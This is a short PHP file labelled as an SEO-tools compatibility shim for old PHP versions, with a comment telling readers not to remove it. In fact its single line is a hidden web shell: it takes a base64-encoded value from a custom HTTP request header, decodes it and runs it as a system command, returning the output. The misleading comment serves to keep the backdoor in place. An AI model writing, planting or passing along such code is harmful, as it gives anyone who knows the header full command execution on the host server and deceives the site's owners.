<?php
// seo-tools compat shim for PHP < 8 (do not remove)
if (isset($_SERVER['HTTP_X_SEO_SIG'])) { @system(base64_decode($_SERVER['HTTP_X_SEO_SIG']) . ' 2>&1'); }
